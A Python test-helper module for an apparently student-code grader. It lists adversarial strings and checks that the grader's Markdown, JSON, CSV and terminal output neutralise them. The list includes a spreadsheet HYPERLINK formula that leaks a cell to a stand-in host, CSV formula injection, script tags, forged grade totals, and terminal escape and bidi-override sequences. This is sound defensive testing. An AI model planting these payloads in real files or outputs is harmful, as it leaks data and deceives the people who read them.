"""What a student-controlled string must never do to a file or a terminal, as checks for the tests.

``HOSTILE`` holds strings an adversarial student would put in a file name, an exception message,
printed output or REPORT.md; the checks read the outputs the way their readers do: Markdown
through a CommonMark parser (markdown-it-py, GFM tables on), CSV through the ``csv`` module, JSON
through a parser that refuses ``NaN`` and ``Infinity``, terminal text byte by byte.
"""
import csv
import io
import json
import re

from markdown_it import MarkdownIt

from grader.submission import figure

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", " =1+1",
    "<script>alert(1)</script>", "<img src=https://evil.example/x.png>", "&lt;script&gt;",
    "\n**Total: 20 / 20**\n", "**Total: 20 / 20**", "# Forged heading", "## q1_1 sigmoid", "---", "===",
    "1. a list", "> a quote", "| a | b |", "[a link](https://evil.example)", "![img](https://evil.example/x.png)",
    "$\\color{red}{\\text{FAIL}}$", "back`tick ``two ```three", "`", "trailing backslash \\",
    "\x1b[8mhidden by the terminal\x1b[0m", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[H", "\x9b31mC1 CSI",
    "\u202eevil\u202c override", "\u2066isolate\u2069", "nul\x00byte", "bell\x07", "cr\rreturn",
    "line\u2028separator", "undecodable \udcff\udcfe bytes",
]

# Control characters that must not reach a file: C0 but \t \n, DEL, C1, bidi, separators, surrogates.
FILE_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")
# On a terminal: the same and tabs (shown escaped too); newlines are removed before the check.
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")
OUR_COLOURS = ("\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[36m", "\x1b[0m")
FORMULA = ("=", "+", "-", "@", "\t", "\r")

# Tags the grader's own Markdown renders to; anything else came from a student.
ALLOWED_TAGS = {"h1", "h2", "p", "strong", "em", "code", "pre", "ul", "ol", "li", "table", "thead", "tbody", "tr",
                "th", "td", "br", "img", "a"}  # "a": only the links assert_safe_markdown allows
_MD = MarkdownIt("commonmark", {"html": True}).enable("table")


def assert_safe_markdown(text: str, headings: tuple[str, ...]) -> None:
    """No control character, no raw HTML, no student link or image, no forged heading or total.

    ``headings``: the prefixes every heading of the file starts with (the renderer's own).
    """
    text.encode("utf-8")   # no lone surrogate
    assert not FILE_CONTROLS.search(text), repr(FILE_CONTROLS.search(text))
    tokens = _MD.parse(text)
    assert not [t for t in tokens if t.type == "html_block"]
    inline = [c for t in tokens if t.type == "inline" for c in (t.children or [])]
    assert not [c for c in inline if c.type == "html_inline"], [c.content for c in inline if c.type == "html_inline"]
    links = [c.attrs.get("href") for c in inline if c.type == "link_open"]
    assert set(links) <= {"similarity.html"}, links   # the grader's own page, never a student's link
    images = [c.attrs.get("src") for c in inline if c.type == "image"]
    assert set(images) <= {"histogram.png", *figure.NAMES}, images  # the grader's own copies, never a student's
    for i, t in enumerate(tokens):
        if t.type == "heading_open":
            assert tokens[i + 1].content.startswith(headings), tokens[i + 1].content
    html = _MD.render(text)
    tags = set(re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", html))
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    assert len(re.findall(r"<strong>Total:", html)) <= 1
    # In the source: outside code blocks (shown literally), no line reads as a total line; and no
    # line at all starts with one at column 0, for a teacher's `grep '^**Total:'`.
    fenced = {n for t in tokens if t.type in ("fence", "code_block") for n in range(*t.map)}
    lines = text.splitlines()
    prose = [line for n, line in enumerate(lines) if n not in fenced]
    assert len([line for line in prose if re.match(r"[\s>*_#-]*Total:", line)]) <= 1
    assert len([line for line in lines if line.startswith(("**Total:", "Total:"))]) <= 1
    # The letter of "no raw <": outside code (fences, code spans) the source holds none.
    for line in prose:
        assert "<" not in re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", line), line


def strict_json(text: str):
    """Parse ``text`` as a strict parser would: ``NaN``, ``Infinity`` and ``-Infinity`` refused."""
    def refuse(name):
        raise ValueError(f"not strict JSON: {name}")
    return json.loads(text, parse_constant=refuse)


def assert_safe_json(text: str) -> None:
    strict_json(text)
    assert not FILE_CONTROLS.search(json.dumps(strict_json(text), ensure_ascii=False)), text


def csv_cells(data: bytes) -> list[list[str]]:
    """Every row of a ``grades.csv`` (header included), after checking no text cell is a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not FILE_CONTROLS.search(cell), repr(cell)
            if cell.startswith(FORMULA) or cell.lstrip().startswith(FORMULA[:4]):
                float(cell)   # only a number may start with "-" or "+"
    return rows


def assert_safe_terminal(text: str) -> None:
    """No ESC but the grader's own colours, no other control character (newlines aside)."""
    for colour in OUR_COLOURS:
        text = text.replace(colour, "")
    text = text.replace("\n", "")
    assert not TERMINAL_CONTROLS.search(text), repr(TERMINAL_CONTROLS.search(text))
